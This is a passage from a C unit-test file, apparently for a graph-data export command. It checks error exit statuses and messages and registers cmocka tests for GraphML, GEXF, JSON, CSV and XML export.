    assert_int_equal(r.status, 64);
    assert_contains(r.err, "unknown format 'gml'");
    done(&r);
    r = run("export", test_data("no-such-dataset"), "-o", "x.graphml", NULL);
    assert_int_equal(r.status, 66);
    done(&r);
    r = run("export", test_data("bad/typos"), "-o", "x.graphml", NULL);
    assert_int_equal(r.status, 65);
    assert_contains(r.err, "unknown kind 'equitty'");
    done(&r);
    r = run("export", test_data("loops-small"), "-o", "/nonexistent-rt/x.graphml", NULL);
    assert_int_equal(r.status, 73);
    assert_contains(r.err, "/nonexistent-rt/x.graphml: cannot create");
    done(&r);
    assert_int_equal(access("x.graphml", F_OK), -1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_export_graphml_has_every_entity_and_each_relationship_kept),
        cmocka_unit_test(test_export_graphml_keys_type_each_value),
        cmocka_unit_test(test_export_without_consolidation_each_entity_counts_as_itself),
        cmocka_unit_test(
            test_export_gexf_spells_run_from_the_day_a_claim_is_known_to_the_day_before_it_ends),
        cmocka_unit_test(test_export_gexf_history_takes_only_the_statuses_asked_for),
        cmocka_unit_test(test_export_gexf_edge_there_all_along_has_no_spells),
        cmocka_unit_test(test_export_json_graph_is_node_link_with_edges_under_both_keys),
        cmocka_unit_test(test_export_csv_loops_has_a_row_per_loop_with_its_figures),
        cmocka_unit_test(test_export_csv_hops_has_a_row_per_hop_and_claim),
        cmocka_unit_test(test_export_csv_neutralises_what_a_spreadsheet_would_run),
        cmocka_unit_test(test_export_gives_the_same_bytes_for_the_same_input),
        cmocka_unit_test(test_export_xml_writes_what_xml_cannot_hold_as_replacement_characters),
        cmocka_unit_test(test_export_puts_back_the_callers_libxml2_error_handler),
        cmocka_unit_test(test_export_refuses_bad_options),
        cmocka_unit_test(test_export_format_names_read_back),
        cmocka_unit_test(test_export_ftm_writes_a_record_per_claim),
        cmocka_unit_test(test_export_survives_every_allocation_failure),
        cmocka_unit_test(test_export_command_writes_the_format_its_output_names),
        cmocka_unit_test(test_export_command_exit_statuses),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
